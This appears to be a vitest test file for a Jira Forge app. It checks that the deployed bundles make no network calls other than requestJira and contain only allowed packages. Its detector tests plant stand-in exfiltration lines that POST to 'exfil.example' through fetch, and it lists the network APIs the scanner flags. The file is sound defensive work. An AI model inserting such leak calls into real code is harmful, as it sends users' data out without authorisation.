/**
 * "No egress": no source file the deployed code includes calls fetch or any HTTP client other than requestJira, and
 * the admin page reaches the backend only through @forge/bridge's invoke. The file lists come from bundling what
 * manifest.yml deploys (esbuild's metafile), not from listing folders, so a new import is covered the day it lands.
 */
import { copyFileSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { backendBundles, importedNames, packagesOf, pageBundle, ROOT, scanSource, sourceFilesOf, type Bundle } from './source-scan.js';

/** npm packages the backend bundles may contain: the Forge SDKs and what they use, and our own libraries. */
const BACKEND_PACKAGES = [
  '@forge/api', '@forge/auth', '@forge/egress', '@forge/events', '@forge/i18n', '@forge/kvs', '@forge/resolver',
  'zod', 'cron-parser', 'luxon', 're2js', '@eslint-community/regexpp', 'lodash', 'tslib',
];

let backend: Bundle[] = [];
let page: Bundle = { name: 'admin page', inputs: [] };
const read = (file: string): string => readFileSync(join(ROOT, file), 'utf8');

beforeAll(async () => {
  backend = await backendBundles();
  page = await pageBundle();
}, 120_000);

describe('what the deployed code includes', () => {
  it('bundles every manifest handler and the admin page from their entries (not an empty or guessed list)', () => {
    expect(backend.length).toBeGreaterThanOrEqual(4);
    for (const bundle of backend) expect(sourceFilesOf(bundle.inputs), bundle.name).toContain('src/adapters/forge/jira-client.ts');
    expect(sourceFilesOf(page.inputs)).toContain('src/ui/admin/client.ts');
  });

  it('includes no file from src/local or src/cli, which never ship', () => {
    for (const bundle of [...backend, page]) {
      expect(sourceFilesOf(bundle.inputs).filter((f) => f.startsWith('src/local/') || f.startsWith('src/cli/')), bundle.name).toEqual([]);
    }
  });

  it('contains only the allowed npm packages in the backend bundles', () => {
    const packages = [...new Set(backend.flatMap((b) => packagesOf(b.inputs)))].sort();
    process.stdout.write(`backend bundle packages: ${packages.join(', ')}\n`);
    expect(packages.filter((p) => !BACKEND_PACKAGES.includes(p))).toEqual([]);
  });
});

describe('no egress from the deployed source', () => {
  it('has no deployed src file that uses fetch, XMLHttpRequest, WebSocket, EventSource, an HTTP module or a product request other than requestJira', () => {
    const files = [...new Set([...backend, page].flatMap((b) => sourceFilesOf(b.inputs)))];
    expect(files.length).toBeGreaterThan(50);
    expect(files.flatMap((file) => scanSource(file, read(file)))).toEqual([]);
  });

  it('calls requestJira only from the Forge Jira adapters', () => {
    const files = [...new Set(backend.flatMap((b) => sourceFilesOf(b.inputs)))];
    const callers = files.filter((file) => /\brequestJira\s*\(/.test(read(file)));
    expect(callers.sort()).toEqual(['src/adapters/forge/caller-check.ts', 'src/adapters/forge/jira-client.ts']);
  });

  it('has the admin page import only invoke from @forge/bridge (no requestJira, fetch or router from the page)', () => {
    const uses = sourceFilesOf(page.inputs)
      .map((file) => ({ file, names: importedNames(file, read(file), '@forge/bridge') }))
      .filter((u) => u.names.length > 0);
    expect(uses).toEqual([{ file: 'src/ui/admin/client.ts', names: ['invoke'] }]);
  });
});

describe('the scan catches what it must', () => {
  it('finds planted calls and ignores comments and strings', () => {
    const planted = [
      '// fetch("https://comment.example") is only a comment',
      'const words = "we never fetch or use XMLHttpRequest";',
      'await fetch("https://exfil.example");',
      'const f = globalThis["fetch"];',
      'await asApp().requestConfluence(route`/wiki/api`);',
      "import https from 'node:https';",
      "const axios = await import('axios');",
      'new WebSocket("wss://x.example");',
    ].join('\n');
    expect(scanSource('planted.ts', planted).map((f) => `${f.line}:${f.what}`)).toEqual([
      '3:fetch', '4:["fetch"]', '5:requestConfluence', '6:import node:https', '7:load axios', '8:WebSocket',
    ]);
  });

  it('catches a fetch planted in a temp copy of the Jira adapter', () => {
    const dir = mkdtempSync(join(tmpdir(), 'egress-'));
    try {
      const copy = join(dir, 'jira-client.ts');
      copyFileSync(join(ROOT, 'src/adapters/forge/jira-client.ts'), copy);
      expect(scanSource(copy, readFileSync(copy, 'utf8'))).toEqual([]);
      const text = `${readFileSync(copy, 'utf8')}\nexport const leak = () => fetch('https://exfil.example', { method: 'POST' });\n`;
      expect(scanSource(copy, text).map((f) => f.what)).toEqual(['fetch']);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
